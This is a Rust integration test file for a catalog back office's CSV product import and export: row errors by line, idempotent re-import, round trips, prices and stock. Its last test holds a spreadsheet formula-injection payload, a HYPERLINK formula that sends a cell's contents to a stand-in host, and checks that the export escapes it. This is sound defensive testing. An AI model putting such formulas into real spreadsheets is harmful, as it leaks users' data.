//! CSV import and export of products: row-level errors with line numbers, good rows imported,
//! nothing of a bad row written, re-import idempotent by SKU, export → import round trip.

use backoffice_tests::{Browser, TestApp};
use serde_json::{Value, json};

use crate::catalog_model::seed_attributes;

async fn import(admin: &Browser, csv: &str) -> Value {
    let reply = admin
        .submit_json("/admin/catalog/products/import", &json!({ "csv": csv }))
        .await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    reply.json()["report"].clone()
}

const GOOD_AND_BAD: &str = "\
abstract_sku,concrete_sku,name.en,name.de,status,categories,price.EUR.gross,price.EUR.net,attr.color,attr.size
SHIRT,,Shirt,Hemd,active,tops,2500,2100,,
SHIRT,SHIRT-RED-M,,,active,tops,,,red,M
SHIRT,SHIRT-BLUE-M,,,active,tops,,,blue,M
MUG,,\"Mug, big\",Tasse,inactive,,900,,,
BAD SKU,,Broken,,active,,100,,,
PLATE,,Plate,,active,nowhere,100,,,
BOWL,,Bowl,,active,,12.50,,,
SHIRT,SHIRT-RED-M2,,,active,tops,,,red,M
CUP,,Cup,,active,,100,,
SHIRT,MUG,,,active,tops,,,red,L
";

#[tokio::test]
async fn import_reports_bad_rows_by_line_imports_good_rows_and_is_idempotent() {
    let app = TestApp::with_plugins(&["catalog"]).await;
    let admin = app.admin().await;
    seed_attributes(&admin).await;
    admin
        .submit_json(
            "/admin/catalog/categories/create",
            &json!({"name": "Tops", "slug": "tops"}),
        )
        .await;

    let report = import(&admin, GOOD_AND_BAD).await;
    assert_eq!(report["created"], 2, "{report}");
    assert_eq!(
        report["updated"], 2,
        "the variant rows add to SHIRT: {report}"
    );
    assert_eq!(report["failed"], 6, "{report}");
    let errors: Vec<(u64, &str)> = report["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["line"].as_u64().unwrap(), e["reason"].as_str().unwrap()))
        .collect();
    assert_eq!(
        errors,
        [
            (
                6,
                "sku must be 1 to 64 characters: letters, digits, '.', '_' or '-'"
            ),
            (7, "category nowhere does not exist"),
            (
                8,
                "price.EUR.gross must be a non-negative integer of minor units (cents)"
            ),
            (
                9,
                "variant SHIRT-RED-M already has the same super-attribute values (color=red, size=M)"
            ),
            (10, "9 fields where the header has 10"),
            (11, "SKU MUG already exists"),
        ]
    );
    // Nothing of the bad rows exists.
    let list = admin
        .get_json("/admin/catalog/products/index?sort=sku")
        .await
        .json();
    let skus: Vec<&str> = list["products"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["sku"].as_str().unwrap())
        .collect();
    assert_eq!(skus, ["MUG", "SHIRT"]);
    let shirt = &list["products"][1];
    assert_eq!(shirt["names"], json!({"en": "Shirt", "de": "Hemd"}));
    assert_eq!(shirt["prices"]["EUR"], json!({"gross": 2500, "net": 2100}));
    let mug = &list["products"][0];
    assert_eq!(mug["name"], "Mug, big");
    let detail = admin
        .get_json(&format!(
            "/admin/catalog/products/show?id={}",
            shirt["id"].as_str().unwrap()
        ))
        .await
        .json();
    assert_eq!(detail["variants"].as_array().unwrap().len(), 2);

    // The same file again: every good row is unchanged, the bad ones fail the same way.
    let again = import(&admin, GOOD_AND_BAD).await;
    assert_eq!(
        (
            again["created"].as_u64(),
            again["updated"].as_u64(),
            again["unchanged"].as_u64(),
            again["failed"].as_u64()
        ),
        (Some(0), Some(0), Some(4), Some(6)),
        "{again}"
    );
    let versions = admin
        .get_json("/admin/catalog/products/index?sort=sku")
        .await
        .json();
    assert_eq!(
        versions["products"][0]["version"], mug["version"],
        "no write for an unchanged row"
    );

    // A change is an update by SKU.
    let changed = import(
        &admin,
        "abstract_sku,name.en,price.EUR.gross\nMUG,Mug,950\n",
    )
    .await;
    assert_eq!(changed["updated"], 1);
    let mug = admin
        .get_json("/admin/catalog/products/index?q=MUG")
        .await
        .json();
    assert_eq!(mug["products"][0]["price"], 950);
    assert_eq!(
        mug["products"][0]["names"]["de"], "Tasse",
        "columns not sent are kept"
    );
}

#[tokio::test]
async fn a_bad_file_is_refused_as_a_whole_and_export_imports_back_unchanged() {
    let app = TestApp::with_plugins(&["catalog"]).await;
    let admin = app.admin().await;
    seed_attributes(&admin).await;
    for (csv, message) in [
        ("sku,name.en\nA,B\n", "unknown column \"sku\" in the header"),
        (
            "abstract_sku,name.en,name.en\nA,B,C\n",
            "column \"name.en\" appears twice",
        ),
        ("name.en\nA\n", "the header needs an abstract_sku column"),
        (
            "abstract_sku,price.XYZ.gross\nA,100\n",
            "currency XYZ does not exist (under Settings: EUR, CHF, USD)",
        ),
    ] {
        let reply = admin
            .submit_json("/admin/catalog/products/import", &json!({ "csv": csv }))
            .await;
        assert_eq!(reply.status, 422, "{csv}: {}", reply.body);
        assert_eq!(reply.json()["error"], message);
    }
    let empty = admin
        .submit_json("/admin/catalog/products/import", &json!({ "csv": "  " }))
        .await;
    assert_eq!(empty.status, 400);
    let list = admin.get_json("/admin/catalog/products/index").await.json();
    assert_eq!(list["total"], 0);

    // Build a catalog through the forms' JSON API, export it, import the export.
    admin
        .submit_json(
            "/admin/catalog/categories/create",
            &json!({"name": "Tops", "slug": "tops"}),
        )
        .await;
    let tops = admin
        .get_json("/admin/catalog/categories/index")
        .await
        .json()["categories"][0]["id"]
        .clone();
    let shirt = admin
        .submit_json("/admin/catalog/products/create", &json!({
            "sku": "SHIRT", "names": {"en": "Shirt \"classic\"", "de": "Hemd"},
            "description": {"en": "Line one\nline two, with comma"}, "price": 2500, "price_net": 2100,
            "status": "active", "category_ids": [tops], "stores": ["AT"], "tax_class": "reduced",
            "attributes": {"material": "cotton", "weight": 180}
        }))
        .await
        .json()["product"]
        .clone();
    admin
        .submit_json("/admin/catalog/variants/create", &json!({
            "product_id": shirt["id"], "sku": "SHIRT-RED-M", "attributes": {"color": "red", "size": "M"}
        }))
        .await;
    let export = admin.get("/admin/catalog/products/export").await;
    assert_eq!(export.status, 200);
    let csv = export.body.clone();
    let lines: Vec<&str> = csv.split("\r\n").collect();
    assert!(
        lines[0].starts_with("abstract_sku,concrete_sku,name.en,name.de"),
        "{csv}"
    );
    assert!(csv.contains("SHIRT,SHIRT-RED-M,"), "{csv}");
    assert!(csv.contains("\"Shirt \"\"classic\"\"\""), "{csv}");
    let report = import(&admin, &csv).await;
    assert_eq!(report["unchanged"], 2, "{report}");
    assert_eq!(report["failed"], 0, "{report}");
}

#[tokio::test]
async fn the_import_page_takes_pasted_csv_and_shows_the_report() {
    let app = TestApp::with_plugins(&["catalog"]).await;
    let admin = app.admin().await;
    let page = admin.get("/admin/catalog/products/import").await;
    assert_eq!(page.status, 200);
    assert!(page.text().contains("enctype=\"multipart/form-data\""));
    let reply = admin
        .submit(
            "/admin/catalog/products/import",
            &[(
                "csv",
                "abstract_sku,name.en,price.EUR.gross\nA-1,Apple,100\nB 2,Pear,100\n",
            )],
        )
        .await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    let text = reply.text();
    assert!(text.contains("1 created"), "{text}");
    assert!(text.contains("<strong>1 failed</strong>"), "{text}");
    assert!(text.contains("<td>3</td>"), "{text}");
}

#[tokio::test]
async fn import_sets_prices_per_currency_and_stock_per_warehouse_and_exports_them() {
    let app = TestApp::with_plugins(&["catalog"]).await;
    let admin = app.admin().await;
    seed_attributes(&admin).await;
    for name in ["Berlin", "Vienna"] {
        let reply = admin
            .submit_json("/admin/catalog/warehouses/create", &json!({ "name": name }))
            .await;
        assert_eq!(reply.status, 200, "{}", reply.body);
    }
    let csv = "\
abstract_sku,concrete_sku,name.en,price.EUR.gross,price.CHF.gross,price.CHF.net,stock,stock.Vienna,attr.color,attr.size
TEE,,Tee,1500,1700,1400,,,,
TEE,TEE-RED-S,,1600,,,4,2,red,S
TEE,TEE-RED-M,,,,,0,,red,M
CAP,,Cap,500,,,3,,,
BAD,,Bad,100,,90,,,,
NEG,,Neg,100,,,-1,,,
WH,,Wh,100,,,,,,
";
    let report = import(&admin, csv).await;
    assert_eq!(report["created"], 3, "{report}");
    assert_eq!(report["updated"], 2, "{report}");
    let errors: Vec<(u64, &str)> = report["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["line"].as_u64().unwrap(), e["reason"].as_str().unwrap()))
        .collect();
    assert_eq!(
        errors,
        [
            (6, "price.CHF.gross is required with price.CHF.net"),
            (7, "stock must be a whole number of at least 0"),
        ]
    );
    // TEE's CHF price is the abstract product's; TEE-RED-S has its own EUR price.
    let chf = admin
        .get_json("/admin/catalog/prices/resolve?sku=TEE-RED-M&currency=CHF")
        .await;
    assert_eq!(chf.status, 200, "{}", chf.body);
    assert_eq!(chf.json()["unit"]["gross"], 1700, "{}", chf.body);
    let product_price = admin
        .get_json("/admin/catalog/prices/resolve?sku=CAP&currency=EUR")
        .await
        .json();
    assert_eq!(product_price["unit"]["gross"], 500, "{product_price}");
    let own = admin
        .get_json("/admin/catalog/prices/resolve?sku=TEE-RED-S&currency=EUR")
        .await
        .json();
    assert_eq!(own["unit"]["gross"], 1600, "{own}");
    // `stock` is the first warehouse by name (Berlin); stock.Vienna the named one.
    let stock = admin
        .get_json("/admin/catalog/availability/index?q=TEE-RED-S")
        .await;
    assert_eq!(stock.status, 200, "{}", stock.body);
    assert!(stock.body.contains("\"available\":6"), "{}", stock.body);

    let export = admin.get("/admin/catalog/products/export").await.body;
    assert!(export.contains("price.CHF.gross,price.CHF.net"), "{export}");
    assert!(export.contains("stock.Berlin,stock.Vienna"), "{export}");
    let again = import(&admin, &export).await;
    assert_eq!(again["unchanged"], 5, "{again}");
    assert_eq!(again["failed"], 0, "{again}");
}

#[tokio::test]
async fn export_guards_cells_that_spreadsheets_would_run_and_imports_them_back() {
    let app = TestApp::with_plugins(&["catalog"]).await;
    let admin = app.admin().await;
    for (key, input_type) in [("min_temp", "number"), ("motto", "text")] {
        let reply = admin
            .submit_json(
                "/admin/catalog/attributes/create",
                &json!({ "key": key, "input_type": input_type }),
            )
            .await;
        assert_eq!(reply.status, 200, "{}", reply.body);
    }
    let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    for (sku, name) in [
        ("F-EQ", hyperlink),
        ("F-PLUS", "+1+1"),
        ("F-MINUS", "-2+3"),
        ("F-AT", "@SUM(A1:A9)"),
        // Names are trimmed, so a leading tab goes and what follows is guarded.
        ("F-TAB", "\t=1+1"),
    ] {
        let reply = admin
            .submit_json(
                "/admin/catalog/products/create",
                &json!({
                    "sku": sku, "name": name, "price": 100,
                    "attributes": {"min_temp": -5, "motto": "-5"}
                }),
            )
            .await;
        assert_eq!(reply.status, 200, "{sku}: {}", reply.body);
    }
    let export = admin.get("/admin/catalog/products/export").await;
    assert_eq!(export.status, 200);
    let csv = export.body.clone();
    let row = |sku: &str| -> &str {
        csv.split("\r\n")
            .find(|line| line.starts_with(&format!("{sku},")))
            .unwrap_or_else(|| panic!("no row of {sku} in {csv}"))
    };
    // The name cell follows abstract_sku and the empty concrete_sku; a number attribute stays a
    // number (-5), a text attribute that looks like one is guarded ('-5).
    assert!(
        row("F-EQ")
            .starts_with("F-EQ,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","),
        "{csv}"
    );
    assert!(row("F-PLUS").starts_with("F-PLUS,,'+1+1,"), "{csv}");
    assert!(row("F-MINUS").starts_with("F-MINUS,,'-2+3,"), "{csv}");
    assert!(row("F-AT").starts_with("F-AT,,'@SUM(A1:A9),"), "{csv}");
    assert!(row("F-TAB").starts_with("F-TAB,,'=1+1,"), "{csv}");
    assert!(row("F-EQ").ends_with(",-5,'-5"), "{csv}");
    for unguarded in [",=", ",+", ",@", ",\t", ",\"=", ",\"+", ",\"-", ",\"@"] {
        assert!(!csv.contains(unguarded), "{unguarded:?} in {csv}");
    }

    // The import reads the guarded cells back as they were: nothing changes.
    let report = import(&admin, &csv).await;
    assert_eq!(report["unchanged"], 5, "{report}");
    assert_eq!(report["failed"], 0, "{report}");
    let list = admin
        .get_json("/admin/catalog/products/index?sort=sku")
        .await
        .json();
    let products = list["products"].as_array().unwrap();
    let product = products.iter().find(|p| p["sku"] == "F-EQ").unwrap();
    assert_eq!(product["name"], hyperlink);
    assert_eq!(
        product["attributes"],
        json!({"min_temp": -5, "motto": "-5"})
    );
}
